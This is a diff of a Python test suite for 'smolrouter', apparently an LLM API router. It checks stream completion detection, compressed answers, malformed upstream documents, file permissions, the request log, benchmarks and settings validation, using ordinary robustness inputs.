-        kind, body = "application/json", dumps({**ASKS.get(path, {}), "model": name})
-        if form:
-            kind = "multipart/form-data; boundary=b"
-            body = f'--b\r\nContent-Disposition: form-data; name="model"\r\n\r\n{name}\r\n--b--'
-            body = body.encode()
-        got = request(shared().port, "POST", path, body, [("Content-Type", kind)])
-        assert got.status == 400 and b"16384 are allowed" in got.content
-        assert not stage().heard(name)
-
-
-def test_few_files_are_enough() -> None:
-    """With 100 descriptors and 30 clients, others are served, before and after."""
-    shell = ("/bin/sh", "-c", 'ulimit -n 100; exec "$0" "$@"', sys.executable)
-    with Upstream() as upstream, contextlib.ExitStack() as stack:
-        router = stack.enter_context(Router({"DEFAULT_UPSTREAM": upstream.url}, python=shell))
-        with contextlib.ExitStack() as crowd:
-            for _ in range(30):
-                sock = crowd.enter_context(connect(router.port))
-                with contextlib.suppress(ConnectionError):
-                    sock.sendall(get("/v1/crowd"))
-            assert ask(router, "tiny").status == 200
-        results = at_once(lambda n: ask(router, "tiny").status, range(40), workers=20)
-        assert results == [200] * 40
-        assert "Traceback" not in router.stderr
-
-
-def test_a_name_that_is_no_text_costs_nobody_a_row() -> None:
-    with pair() as (router, _):
-        for name in ("\ud800", "a\udfff [x]"):
-            request(router.port, "POST", "/api/chat", {**ASKS["/api/chat"], "model": name})
-        assert ask(router, "tiny").status == 200
-
-        def rows() -> list[str]:
-            return [r["original_model"] for r in request(router.port, "GET", "/api/logs").json]
-
-        assert until(lambda: len(rows()) == 3), rows()
-        assert "Traceback" not in router.stderr
-
-
-def test_nobody_else_can_read_what_is_kept() -> None:
-    shell = ("/bin/sh", "-c", 'umask 022; exec "$0" "$@"', sys.executable)
-    with Router({"DEFAULT_UPSTREAM": stage().url}, python=shell) as router:
-        assert ask(router, "tiny", "a" * 100_000).status == 200
-        stored = [router.folder / "requests.db", router.folder / "blob_storage"]
-        assert until(lambda: all(path.exists() for path in stored))
-        assert until(lambda: [p for p in stored[1].rglob("*") if p.is_file()])
-        for path in router.folder.rglob("*"):
-            assert not path.stat().st_mode & 0o077, path
-
-
-def test_image_runs_as_nobody_and_writes_to_data_alone() -> None:
-    lines = (HERE / "Dockerfile").read_text("utf-8").splitlines()
-    user, folder = (lines.index(line) for line in ("USER 10001:10001", "WORKDIR /data"))
-    entry = lines.index('ENTRYPOINT ["python", "/app/smolrouter.py"]')
-    assert user < folder < entry and "VOLUME /data" in lines
-    assert not [line for line in lines[user + 1 :] if line.startswith(("USER", "RUN", "COPY"))]
-    assert "chmod 0644 /app/smolrouter.py" in "\n".join(lines)
-
-
-def test_client_that_resets_its_upload_leaves_no_traceback() -> None:
-    for data in (post(CHAT, chat("tiny"))[:-5], get("/v1/x")[:-3]):
-        with connect(shared().port) as sock:
-            sock.sendall(data)
-            time.sleep(0.05)
-            reset = struct.pack("ii", 1, 0)
-            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, reset)
-    assert ask(shared(), "tiny").status == 200
-    assert "Traceback" not in shared().stderr
-
-
-# == the clients that have been slow since the first test ==========================
-
-
-@pytest.mark.parametrize("name", LATE)
-def test_dawdler_is_answered_408(
-    name: str, dawdlers: dict[str, concurrent.futures.Future[bytes]]
-) -> None:
-    answers, rest = split_answers(dawdlers[name].result(timeout=90))
-    assert ([a.status for a in answers], rest) == ([408], b"")
-    assert answers[0].get("Connection") == "close"
-    assert not stage().heard("dawdler")
-
-
-# -- odd answers -------------------------------------------------------------------
-
-WORDS = [{"choices": [{"index": 0, "delta": {"content": w}}]} for w in ("one ", "two")]
-ENDED = {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}
-END_TALK = {
-    "error": None,
-    "choices": [
-        {
-            "index": 0,
-            "finish_reason": None,
-            "delta": {
-                "content": 'the mark [DONE] or "finish_reason":"stop" or "error" ends it, '
-                '"done":true does'
-            },
-        }
-    ],
-}
-
-
-def until_close(*pieces: bytes) -> list[Step]:
-    """A stream that only the close ends."""
-    return stream_answer(pieces, framed=False)
-
-
-CUT_STREAMS = {
-    "after an event": (until_close(*map(event, WORDS)), False),
-    "inside an event": (until_close(event(WORDS[0]), event(WORDS[1])[:-9]), False),
-    "inside a chunked event": (stream_answer([event(WORDS[0]), event(WORDS[1])[:-9]]), False),
-    "after the finish reason": (until_close(*map(event, [*WORDS, ENDED])), True),
-    "after the mark": (until_close(*map(event, [*WORDS, "[DONE]"])), True),
-    "after words that end nothing": (until_close(*map(event, [*WORDS, END_TALK])), False),
-    "after the last of many": (
-        until_close(*map(event, [*WORDS * 9, ENDED, {"choices": []}])),
-        True,
-    ),
-}
-
-
-@pytest.mark.parametrize("steps, whole", CUT_STREAMS.values(), ids=CUT_STREAMS.keys())
-@pytest.mark.parametrize("path", [CHAT, "/api/chat"])
-def test_cut_stream_never_looks_complete(path: str, steps: list, whole: bool) -> None:
-    model = stage().plays(steps)
-    got = request(shared().port, "POST", path, asking(path, model, True))
-    assert got.text.startswith("one ")
-    assert ("error" in got.documents[-1]) == (not whole)
-    assert got.whole == whole
-
-
-@pytest.mark.parametrize("line, ends", [
-    ({"choices": [{"finish_reason": "stop"}]}, True), (END_TALK, False), (ENDED, True),
-    ({"choices": [{"finish_reason": ""}, {"finish_reason": None}]}, False), ("[DONE] ", True),
-    ({"message": {"content": '"done":true'}, "done": False}, False), ({"done": True}, True),
-    ({"type": "response.created", "response": {"error": None}}, False), ({"error": "x"}, True),
-    ({"type": "response.completed", "response": {"text": "x" * 9000}}, True), ("", False),
-    ({"type": "response.failed"}, True), ({"type": "response.incomplete"}, True),
-    ({"type": "content_block_stop"}, False), ({"type": "message_stop"}, True), ("[]", False),
-    ({"type": "error"}, True), ({"object": "error"}, True), ("x [DONE]", False), ("7", False),
-])  # fmt: skip
-def test_what_ends_a_stream(line: Any, ends: bool) -> None:
-    data = event(line)
-    for end in ENDS:
-        transform = chat_filter()
-        transform.feed(event(WORDS[0]) + data.replace(b"\n\n", end))
-        transform.feed(b": x\n\n")
-        assert transform.complete == ends
-    assert smolrouter.ends_stream(smolrouter.LINES, data[6:-1]) == ends
-
-
-def test_cut_document_is_no_answer() -> None:
-    content = dumps(completion({}, "<think>a</think>x"))[:-5]
-    kind = [("Content-Type", "application/json"), ("Connection", "close")]
-    model = stage().plays([head(200, kind) + content, CLOSE])
-    assert ask(shared(), model).status == 502
-
-
-ODD_DOCUMENTS = [
-    {"choices": [{"index": [0], "message": {"content": "<b>"}}]},
-    {"choices": "x", "usage": [1]},
-    {"choices": [{"message": "hi"}]},
-    {"choices": [{"message": {"content": "a", "tool_calls": [None]}}]},
-    {"choices": [{"message": {"tool_calls": [{"function": None}]}}]},
-    {"data": [None]},
-]
-
-
-@pytest.mark.parametrize("doc", ODD_DOCUMENTS, ids=range(len(ODD_DOCUMENTS)))
-@pytest.mark.parametrize("path", [CHAT, "/api/chat", "/api/embed"])
-def test_odd_document_is_no_internal_error(path: str, doc: Any) -> None:
-    model = stage().plays(json_answer(doc))
-    asked = {"model": model, "input": "a"} if "embed" in path else asking(path, model, False)
-    got = request(shared().port, "POST", path, asked)
-    assert got.status in (200, 502)
-    assert got.status == 200 or isinstance(got.json["error"], dict if path == CHAT else str)
-
-
-PLAIN = dumps(completion({}, "<think>no</think>yes"))
-half = len(PLAIN) // 2
-CODED_ANSWERS = {
-    "gzip": ("gzip", gzip.compress(PLAIN)),
-    "two members": ("gzip", gzip.compress(PLAIN[:half]) + gzip.compress(PLAIN[half:])),
-    "zlib": ("deflate", zlib.compress(PLAIN)),
-    "bare deflate": ("deflate", zlib.compress(PLAIN)[2:-4]),
-    "with identity": ("identity, ,GZIP", gzip.compress(PLAIN)),
-    "on a second line": ("identity\r\nContent-Encoding: gzip", gzip.compress(PLAIN)),
-    "after an empty line": ("\r\nContent-Encoding: gzip", gzip.compress(PLAIN)),
-    "zeros after it": ("gzip", gzip.compress(PLAIN) + bytes(512)),
-    "half a member's start after it": ("gzip", gzip.compress(PLAIN) + b"\x1f"),
-    "members that are empty": ("gzip", gzip.compress(PLAIN) + gzip.compress(b"") * 999),
-    "octets after zlib": ("deflate", zlib.compress(PLAIN) + gzip.compress(b"x")),
-}
-
-
-@pytest.mark.parametrize("coding, content", CODED_ANSWERS.values(), ids=CODED_ANSWERS.keys())
-def test_coded_answer_is_read(coding: str, content: bytes) -> None:
-    steps = answer(content, 200, [("Content-Encoding", coding)], "application/json")
-    got = ask(shared(), stage().plays(steps))
-    assert (got.text, got.get("Content-Encoding")) == ("yes", None)
-
-
-def test_members_of_gzip_may_be_cut_anywhere() -> None:
-    members = gzip.compress(b"a") + gzip.compress(b"") + gzip.compress(b"b") + b"\x1frest"
-    for at in range(len(members)):
-        inflater = smolrouter.Inflater("gzip", 2)
-        assert inflater.feed(members[:at]) + inflater.feed(members[at:]) == b"ab"
-        assert inflater.decoder.eof
-
-
-def test_what_follows_gzip_is_not_kept() -> None:
-    gzipped = gzip.compress(event(ENDED))
-    steps = stream_answer([gzipped, *[b"x" * (1 << 20)] * 40], [("Content-Encoding", "gzip")])
-    with pair() as (router, upstream):
-        got = request(router.port, "POST", CHAT, chat(upstream.plays(steps), stream=True))
-        assert got.content == event(ENDED)
-        assert memory(router, "VmHWM") < 70
-
-
-UNKNOWN_CODINGS = ("br", "zstd", "gzip, gzip", "gzip\r\nContent-Encoding: br", "y" * 9999)
-
-
-@pytest.mark.parametrize("coding", UNKNOWN_CODINGS, ids=range(len(UNKNOWN_CODINGS)))
-@pytest.mark.parametrize("stream", [False, True])
-@pytest.mark.parametrize("status", [200, 429])
-def test_coding_that_nobody_takes_off(coding: str, stream: bool, status: int) -> None:
-    """A client of the same dialect gets it as it is, one of another an error that says why."""
-    kind = "text/event-stream" if stream else "application/json"
-    model = stage().plays(answer(b"coded", status, [("Content-Encoding", coding)], kind))
-    same = ask(shared(), model, stream=stream)
-    assert (same.status, same.content) == (status, b"coded")
-    assert [v for n, v in same.fields if n == "Content-Encoding"] == [
-        value.strip() for value in coding.split("\r\nContent-Encoding:")
-    ]
-    got = request(shared().port, "POST", "/api/chat", chat(model, stream=stream))
-    assert got.status == 502 and f"status {status}" in got.json["error"]
-    assert coding[:2] in got.json["error"] and len(got.content) < 300
-
-
-@pytest.mark.parametrize("status", [200, 204, 304])
-@pytest.mark.parametrize("kind", ["application/json", "text/event-stream"])
-def test_coded_nothing_is_nothing(status: int, kind: str) -> None:
-    length = [] if status == 204 else [("Content-Length", "0")]
-    fields = [("Content-Type", kind), ("Content-Encoding", "gzip"), *length]
-    got = ask(shared(), stage().plays([head(status, fields)]), stream="event" in kind)
-    assert (got.status, got.content, got.whole) == (status, b"", True)
-
-
-def test_coded_stream_of_an_alias_does_not_wait() -> None:
-    """Its events cannot be told apart before it is decoded: its first octets are its begin."""
-    gate, packer = threading.Event(), zlib.compressobj(wbits=31)
-
-    def script(received: Received) -> Iterator[Step]:
-        data = packer.compress(event({"n": 1})) + packer.flush(zlib.Z_SYNC_FLUSH)
-        yield from stream_answer([data], [("Content-Encoding", "gzip")], whole=False)
-        gate.wait(PATIENCE)
-        yield from chunked(packer.flush())
-
-    with (
-        Upstream(script) as one,
-        Upstream() as two,
-        both(one.url, two.url) as router,
-        connect(router.port) as sock,
-    ):
-        sock.sendall(post(CHAT, chat("pair", stream=True)))
-        assert receive_until(sock, b'{"n":1}')
-        gate.set()
-        assert receive_until(sock, b"0\r\n\r\n")
-
-
-def test_kept_answer_is_read_over_all_lines_of_its_coding() -> None:
-    fields = [("Content-Encoding", "gzip"), ("Content-Encoding", "identity")]
-    model = stage().plays(answer(gzip.compress(PLAIN), 200, fields, "application/json"))
-    assert ask(logging(), model).text == "yes"
-    assert detail_of(logging(), model)["response_body"] == PLAIN.decode()
-
-
-def test_huge_coded_answer_goes_as_it_is() -> None:
-    content = gzip.compress(b'{"choices":[],"x":"' + b"<" * (40 << 20) + b'"}')
-    steps = answer(content, 200, [("Content-Encoding", "gzip")], "application/json")
-    got = ask(shared(), stage().plays(steps))
-    assert (got.content, got.get("Content-Encoding")) == (content, "gzip")
-
-
-def test_long_event_before_the_first_answer_freezes_nobody() -> None:
-    long = b"data: " + b"x" * (6 << 20) + b"\n\n"
-    steps = stream_answer([long, event(ENDED)])
-    with Upstream(lambda r: steps) as one, Upstream() as two, both(one.url, two.url) as router:
-        got = ask(router, "pair", stream=True)
-    assert got.content == long + event(ENDED)
-
-
-def test_only_the_long_event_goes_unfiltered() -> None:
-    long = event({"image": "x" * (5 << 20)})
-    said = {"choices": [{"index": 0, "delta": {"content": "<think>a</think>b"}}]}
-    model = stage().plays(stream_answer([long, event(said), event(ENDED)]))
-    assert ask(shared(), model, stream=True).text == "b"
-
-
-def test_event_of_several_lines_stays_one() -> None:
-    lines = (
-        b'event: message\nid: 7\ndata: {"choices":[{"index":0,\n'
-        b'data: "delta":{"content":"<think>a</think>b"}}]}\n\n'
-    )
-    got = ask(shared(), stage().plays(stream_answer([lines, event(ENDED)])), stream=True)
-    start, _, rest = got.content.partition(b"\n\n")
-    assert start.startswith(b"event: message\nid: 7\ndata: {") and start.count(b"\n") == 2
-    assert b'"content":"b"' in start and rest == event(ENDED)
-
-
-def test_held_text_leaves_with_its_event_s_own_lines() -> None:
-    delta = {"type": "content_block_delta", "index": 0, "delta": {"text": "a <"}}
-    stop = {"type": "content_block_stop", "index": 0}
-    pieces = [b"event: content_block_delta\n" + event(delta), b"event: x\n" + event(stop)]
-    content = {"model": stage().plays(stream_answer(pieces)), "messages": [], "stream": True}
-    got = request(shared().port, "POST", "/v1/messages", content)
-    assert got.content.count(b"event: content_block_delta\n") == 2
-    assert b'"text":"<"' in got.content
-
-
-def test_calls_of_other_ids_are_other_calls() -> None:
-    def call(name: str) -> dict:
-        function = {"name": name, "arguments": '{"x":1}'}
-        calls = [{"index": 0, "id": f"id-{name}", "function": function}]
-        return {"choices": [{"index": 0, "delta": {"tool_calls": calls}}]}
-
-    model = stage().plays(sse_answer([call("f"), call("g"), ENDED, "[DONE]"]))
-    got = request(shared().port, "POST", "/api/chat", asking("/api/chat", model, True))
-    calls = [c for d in got.documents for c in d.get("message", {}).get("tool_calls", [])]
-    assert [c["function"]["name"] for c in calls] == ["f", "g"]
-    assert [c["function"]["arguments"] for c in calls] == [{"x": 1}] * 2
-
-
-def test_running_stream_is_counted_while_it_runs() -> None:
-    gate = threading.Event()
-
-    def script(received: Received) -> Iterator[Step]:
-        yield from stream_answer(map(event, WORDS), whole=False)
-        gate.wait(PATIENCE)
-        yield from chunked(event(ENDED))
-
-    with pair(script) as (router, _), connect(router.port) as sock:
-        sock.sendall(post(CHAT, chat("tiny", stream=True)))
-        receive_until(sock, b"two")
-        rows = request(router.port, "GET", "/api/inflight").json
-        gate.set()
-        receive_until(sock, b"0\r\n\r\n")
-    assert [(row["phase"], row["tokens"]) for row in rows] == [("streaming", 2)]
-    assert rows[0]["bytes"] > 100
-
-
-def test_every_request_leaves_a_line() -> None:
-    one, two = Upstream(lambda r: [DROP]), Upstream()
-    with one, two, both(one.url, two.url) as router:
-        ask(router, "pair")
-        request(router.port, "GET", "/v1/nothing-there/x?key=hidden")
-        raw(router.port, b"nonsense\r\n\r\n")
-        for word in ("one/m: ", "/v1/nothing-there/x", "400"):
-            assert until(functools.partial(lambda w: w in router.stderr, word))
-        assert "hidden" not in router.stderr
-
-
-# -- the measurements --------------------------------------------------------------
-
-DIRECT_FIGURES = {
-    "latency p50, us", "latency p99, us", "requests/s, 32 connections", "CPU per request, us",
-    "events/s, 8 streams at full speed", "CPU per event at full speed, us",
-    "event delay, 5 paced streams, p50, us", "event delay, 5 paced streams, p99, us",
-    "CPU per paced event, us",
-}  # fmt: skip
-RELAY_FIGURES = DIRECT_FIGURES | {
-    "added latency p50, us", "added latency p99, us", "start to first answer, s",
-    "memory at rest, MB", "memory at its peak, MB",
-}  # fmt: skip
-CURVES = {
-    "rules, known models": ["10", "100", "1000"],
-    "rules, new models": ["10", "100", "1000"],
-    "connections": ["1", "30", "1000"],
-    "rows in the log": ["0", "301"],  # one tells that the router has started
-    "KB of a request": ["1", "32", "1024"],
-    "events of an answer, each": ["10", "300", "10000"],
-}
-
-
-@pytest.mark.skipif(sys.platform != "linux", reason="reads the clocks of other processes")
-def test_measurements_have_every_figure(capsys: pytest.CaptureFixture[str]) -> None:
-    """Both kinds at once, each figure in a moment: none is compared with anything."""
-    bench = importlib.import_module("bench_smolrouter")
-    moment = ("--rounds", "1", "--seconds", "0.05", "--streams", "5", "--rows", "300", "--json")
-    runs = [
-        subprocess.Popen([sys.executable, bench.__file__, *moment, *more], stdout=subprocess.PIPE)
-        for more in ([], ["--curves"])
-    ]
-    try:
-        table, curves = (json.loads(run.communicate(timeout=100)[0]) for run in runs)
-    finally:
-        for run in runs:
-            run.send_signal(signal.SIGINT)  # nothing to one that has ended
-    log = {f"{path}, ms" for path in bench.QUESTIONS} | {"rows in the log"}
-    assert {way: set(figures) for way, figures in table.items()} == {
-        "direct": DIRECT_FIGURES, "floor": RELAY_FIGURES, "log off": RELAY_FIGURES,
-        "smolrouter": RELAY_FIGURES | log,
-    }  # fmt: skip
-    assert {name: list(curve) for name, curve in curves.items()} == CURVES
-    for figures in (*table.values(), *curves.values()):
-        assert all(value > 0 or "added" in name for name, value in figures.items()), figures
-    bench.show(table)
-    bench.show_curves(curves)
-    said = capsys.readouterr().out
-    for name, value in table["smolrouter"].items():
-        assert re.search(rf"^{re.escape(name)} .*\b{value:.2f}\b", said, re.M), name
-    for name, curve in curves.items():
-        assert re.search(rf"^{name} .*\b{[*curve.values()][-1]:.1f}\b", said, re.M), name
-
-
-# ======================================================================================
-# SDKs
-# ======================================================================================
-
-# -- the official clients ----------------------------------------------------------
-
-
-def need(module: str) -> Any:
-    """Import a test extra. Without it the test is skipped, or fails if all must run."""
-    try:
-        return importlib.import_module(module)
-    except ImportError:
-        if os.environ.get("SMOLROUTER_TEST_ALL") == "1":
-            pytest.fail(f"SMOLROUTER_TEST_ALL=1, but {module} is not installed")
-        pytest.skip(f"{module} is not installed")
-
+# --- official clients -----------------------------------------------------------------
 
 KEY = "sk-a-client-s-own-key"
 
@@ -6318,7 +1245,6 @@ class Sdk:
 OPENAI = (Sdk("openai", False), Sdk("openai", True))
 OLLAMA = (Sdk("ollama", False), Sdk("ollama", True))
 WAYS = ("rule", "alias", "map")  # how a name asked for becomes the name of a script
-
 each_openai = pytest.mark.parametrize("sdk", OPENAI, ids=str)
 each_ollama = pytest.mark.parametrize("sdk", OLLAMA, ids=str)
 each_way = pytest.mark.parametrize("way", WAYS)
@@ -6326,7 +1252,8 @@ either = functools.partial(pytest.mark.parametrize, "stream", (False, True))
 whole_or_streamed = either(ids=("whole", "sse"))
 whole_or_lines = either(ids=("whole", "ndjson"))
 
-# -- what the servers say ----------------------------------------------------------
+
+# --- official clients: the servers behind them ----------------------------------------
 
 ASKED = [{"role": "user", "content": "hello"}]
 ANSWER = "You said: hello"
@@ -6339,7 +1266,6 @@ PICTURES = {
 SOUND = bytes(range(256)) * 40 + b"<think>\r\n\r\n0\r\n\r\ndata: [DONE]\n\n</think>"
 VECTOR = [0.5, -1.25, 3.0]
 CITY = {"city": "Paris", "people": 2100000}
-Cases = tuple[tuple[Any, ...], ...]
 CALLS: Cases = (("weather", {"city": "Paris \u2728", "days": [1, 2]}), ("clock", {}))
 TOOLS = [
     {
@@ -6598,7 +1524,8 @@ SCRIPTS: dict[str, Script] = {
     **{f"error-{status}": fail(status) for status in ERRORS},
 }
 
-# -- routers in front of them ------------------------------------------------------
+
+# --- official clients: the routers between --------------------------------------------
 
 
 @functools.cache
@@ -6694,7 +1621,2523 @@ def check_openai_error(document: Any) -> None:
     assert isinstance(error["type"], str) and error["param"] is None
 
 
-# -- OpenAI: the official client ---------------------------------------------------
+def check_error(path: str, got: Answer) -> None:
+    """An error in the dialect of its path."""
+    assert (got.get("Content-Type") or "").startswith("application/json")
+    if path.startswith("/v1/"):
+        return check_openai_error(got.json)
+    assert set(got.json) == {"error"}
+    assert isinstance(got.json["error"], str) and got.json["error"]
+
+
+def model_names(router: Router, key: str = KEY) -> list[str]:
+    fields = [("Authorization", f"Bearer {key}")]
+    got = request(router.port, "GET", "/v1/models", fields=fields)
+    assert got.status == 200
+    assert got.json["object"] == "list"
+    assert all(model["object"] == "model" for model in got.json["data"])
+    return [model["id"] for model in got.json["data"]]
+
+
+def filtering(**settings: Any) -> Router:
+    """A router with these filters; it shares the upstream."""
+    return router_for({"DEFAULT_UPSTREAM": stage().url, **settings})
+
+
+# --- the request log and its database -------------------------------------------------
+
+
+class Kept:
+    """A folder with a log, and the routers that one after another write it."""
+
+    def __init__(self, folder: pathlib.Path, **settings: Any) -> None:
+        self.file = folder / "log.db"
+        self.blobs = folder / "blobs"
+        self.settings = {
+            "DEFAULT_UPSTREAM": stage().url, "DB_PATH": self.file,
+            "BLOB_STORAGE_PATH": self.blobs, "WEBUI_SECURITY": "NONE", **settings,
+        }  # fmt: skip
+
+    def router(self, **more: Any) -> Router:
+        return Router({**self.settings, **more})
+
+    def ask(self, sql: str, *values: Any) -> list[Any]:
+        """Rows of the database; none while there is no such table."""
+        with contextlib.closing(sqlite3.connect(f"file:{self.file}?mode=ro", uri=True)) as db:
+            return db.execute(sql, values).fetchall()
+
+    def written(self, count: int) -> int:
+        """How many finished rows there are, once there are `count`."""
+
+        def look() -> int:
+            with contextlib.suppress(sqlite3.Error):
+                return self.ask("SELECT count(*) FROM requests WHERE failed IS NOT NULL")[0][0]
+            return 0
+
+        return until(lambda: (n := look()) >= count and n) or look()
+
+    def octets(self) -> bytes:
+        """Everything that is on the disk, and what its packed parts hold."""
+        data = b"".join(f.read_bytes() for f in self.file.parent.rglob("*") if f.is_file())
+        packed = [blob.read_bytes() for blob in self.blobs.rglob("*.z")]
+        packed += [row[0] for row in self.ask("SELECT data FROM details")]
+        packed = [part for part in packed if not part[:1].isdigit()]
+        return data + b"".join(map(zlib.decompress, packed))
+
+
+@pytest.fixture
+def kept(tmp_path: pathlib.Path) -> Kept:
+    return Kept(tmp_path)
+
+
+def document(router: Router, path: str) -> Any:
+    """The document that a path answers."""
+    got = request(router.port, "GET", path)
+    assert got.status == 200, got.content
+    return json.loads(got.content)
+
+
+def row_of(router: Router, key: str) -> dict[str, Any]:
+    """The row of the newest finished request for a model, once it is written."""
+
+    def look() -> Any:
+        rows = document(router, f"/api/logs?model={key}&limit=1")
+        return [row for row in rows if not row["is_inflight"]]
+
+    return until(look)[0]
+
+
+def detail_of(router: Router, key: str) -> dict[str, Any]:
+    """Everything about the newest finished request for a model."""
+    return document(router, f"/api/request/{row_of(router, key)['id']}")
+
+
+@functools.cache
+def logging() -> Router:
+    """A router with a log that many tests share; models are told apart by their names."""
+    routes = {
+        "servers": {"off": "http://127.0.0.1:9", "box": stage().url},
+        "aliases": {"either": {"instances": ["off/tiny", "box/other"]}},
+        "routes": [
+            {"match": {"model": "asked-for"}, "route": {"upstream": "box", "model": "sent"}},
+            {"match": {"model": "friend"}, "route": {"alias": "either"}}],
+    }  # fmt: skip
+    return router_for({"DEFAULT_UPSTREAM": stage().url, "WEBUI_SECURITY": "NONE"}, routes)
+
+
+ROW_NAMES = re.findall(
+    r"\w+",
+    """id request_id timestamp source_ip method path service_type
+    original_model mapped_model upstream_url route duration_ms ttft_ms request_size response_size
+    status_code error_message prompt_tokens completion_tokens total_tokens tokens_estimated
+    attempts stream completed_at is_inflight""",
+)
+MOMENT = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z")
+
+
+def made_store(folder: pathlib.Path) -> Any:
+    """The store of a log in a folder, as the router's thread has it."""
+    settings = Kept(folder).settings
+    return smolrouter.Store(
+        smolrouter.Settings.from_mapping({name: str(value) for name, value in settings.items()})
+    )
+
+
+def made_row(number: int, days: float = 0.0, **more: Any) -> Any:
+    """A row as it was written some days ago."""
+    moment = int((time.time() - days * 86_400) * 1000)
+    values = {
+        "id": moment * 1024 + number, "request_id": f"{number:020x}", "timestamp": moment,
+        "source_ip": "10.0.0.1", "method": "POST", "path": "/v1/chat/completions",
+        "service_type": "openai", "upstream_url": "http://box:1", "route": "default", "stream": 0,
+        "request_size": 10, "response_size": 20, "status_code": 200, "failed": 0,
+        "attempts": "[]", "prompt_tokens": 5, "completion_tokens": 6, "tokens_estimated": 0,
+        "duration_ms": 100.0, "completed_at": moment + 100, "level": 0,
+        **dict.fromkeys(("original_model", "mapped_model", "sent_model"), "made"), **more,
+    }  # fmt: skip
+    return smolrouter.Row(*(values.get(name) for name in smolrouter.Row._fields))
+
+
+# --- the browser ----------------------------------------------------------------------
+
+
+def browser() -> str:
+    """Find Chromium. Without it the test is skipped, or fails if all must run."""
+    found = shutil.which("chromium") or shutil.which("chromium-browser")
+    if not found and os.environ.get("SMOLROUTER_TEST_ALL") == "1":
+        pytest.fail("SMOLROUTER_TEST_ALL=1, but there is no Chromium")
+    return found or pytest.skip("there is no Chromium")
+
+
+# --- values that hypothesis makes up --------------------------------------------------
+
+EXAMPLES = int(os.environ.get("SMOLROUTER_FUZZ", "0"))  # of each; 0: few, and the same ones
+
+
+def fuzz(make: Callable[[Any], Mapping[str, Any]]) -> Callable[[Callable], Callable]:
+    """Turn a property into a test; `make` says what its arguments are made of."""
+
+    def decorate(holds: Callable[..., None]) -> Callable[[], None]:
+        def test() -> None:
+            made_up = need("hypothesis")
+            checks = list(made_up.HealthCheck)
+            settings = made_up.settings(
+                max_examples=EXAMPLES or 40,
+                derandomize=not EXAMPLES,
+                database=None,
+                deadline=None,
+                suppress_health_check=checks,
+            )
+            settings(made_up.given(**make(made_up.strategies))(holds))()
+
+        return test
+
+    return decorate
+
+
+TEXT_BITS = [
+    "<think>",
+    "</think>",
+    "<",
+    "</",
+    "think>",
+    "<thin",
+    "k>",
+    "a",
+    " ",
+    "\n",
+    "```json",
+    "```",
+    "`",
+    "{}",
+    "\ud83d\ude00",
+]
+
+
+def pieces_of(st: Any, bits: Sequence[Any], most: int = 12) -> Any:
+    """Lists of bits, which stand for what was joined and for how it was split."""
+    some = st.binary(max_size=4) if isinstance(bits[0], bytes) else st.text(max_size=3)
+    return st.lists(st.one_of(st.sampled_from(bits), some), max_size=most)
+
+
+def json_values(st: Any) -> Any:
+    """JSON documents, odd keys and all."""
+    numbers = st.integers(-(2**70), 2**70) | st.floats(allow_nan=False, allow_infinity=False)
+    leaves = st.none() | st.booleans() | numbers | st.text(max_size=8)
+    keys = st.sampled_from(["model", "messages", "a", "", '"', "\\"]) | st.text(max_size=3)
+    return st.recursive(
+        leaves,
+        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(keys, inner, max_size=4),
+        max_leaves=12,
+    )
+
+
+# --- secrets and tokens ---------------------------------------------------------------
+
+SECRET_KEY = "k9$Lm2#Qx7!Vb4@Zt6^Wp1&Rd8*Ns3%Ge5"
+SECRET = "Kp3-vD9xQ2mT7rLw8ZyB4nHs6JcF1gAe"
+
+
+# --- the filter of a stream, without sockets ------------------------------------------
+
+ENDS = (b"\n\n", b"\r\n\r\n", b"\r\r")
+
+
+def chat_filter(**rules: bool) -> Any:
+    """The filter of a streamed chat."""
+    asked = smolrouter.OPENAI.read(CHAT, "", b'{"model":"m","stream":true,"messages":[]}')
+    on = smolrouter.FilterRules(**(rules or {"think": True}))
+    plan = smolrouter.AnswerPlan(
+        asked, smolrouter.OPENAI, True, on, True, False, lambda: smolrouter.Timing(0.0, 1, 1)
+    )
+    return smolrouter.StreamRewrite(plan, smolrouter.SSE)
+
+
+# ======================================================================================
+# 1  Errors
+# ======================================================================================
+# Each error is proven where it arises; here stands what holds for all of them.
+
+
+def test_long_error_of_a_server_is_cut_in_row_and_line() -> None:
+    failed = {"error": {"message": "no " + "x" * 200_000}}
+    model = stage().plays(json_answer(failed))
+    got = request(logging().port, "POST", "/api/chat", chat(model, stream=False))
+    assert got.json["error"] == failed["error"]["message"]
+    assert row_of(logging(), model)["error_message"] == failed["error"]["message"][:400]
+    line = until(lambda: [li for li in logging().stderr.splitlines() if model in li])[0]
+    assert len(line) < 1000
+
+
+@pytest.mark.parametrize("method, path, more", [
+    ("GET", f"/v1/models/{'y' * 9999}", None), ("POST", "/api/show", {"model": "y" * 9999}),
+    ("y" * 9999, "/v1/models", None),
+])  # fmt: skip
+def test_long_name_is_quoted_in_part(method: str, path: str, more: Any) -> None:
+    got = request(ways().port, method, path, more)
+    assert got.status in (404, 405) and len(got.content) < 500
+
+
+# ======================================================================================
+# 2  Settings
+# ======================================================================================
+# A new setting gets a line in SETTINGS: values that are good, values that are refused.
+
+SETTINGS: dict[str, tuple[list[str], list[str]]] = {
+    "DEFAULT_UPSTREAM": (
+        ["http://box:8000", "https://box/v1/", "box:8000", "http://[::1]:80/a/b"],
+        ["http://", "ftp://box", "http://box:port", "http://box:99999", "http://a b",
+         "http://box/v1/chat/completions"]),
+    "DEFAULT_ROUTE": (["http://box:8000"], []),
+    "LISTEN_HOST": (["127.0.0.1", "::1", "0.0.0.0", "localhost"], []),
+    "LISTEN_PORT": (["0", "1234", "65535"], ["x", "-1", "65536"]),
+    "MODEL_MAP": (
+        ["{}", '{"a": "b"}', r'{"/^(a|b)-x$/": "\\1-y"}', r'{"/(?P<n>a)/": "\\g<n>"}'],
+        ["[]", "{", '{"a": 1}', '{"/(/": "x"}', '{"/a/": "\\\\1"}', "gpt-4=llama"]),
+    "STRIP_THINKING": (["1", "TRUE", "Yes", "on"], ["2"]),
+    "STRIP_JSON_MARKDOWN": (["0", "False", "NO", "off"], ["ja"]),
+    "DISABLE_THINKING": (["true", "false"], ["enabled"]),
+    "ENABLE_LOGGING": (["true", "false"], ["-1"]),
+    "REQUEST_TIMEOUT": (["3000.0", "1", "0.5"], ["soon", "-1", "nan"]),
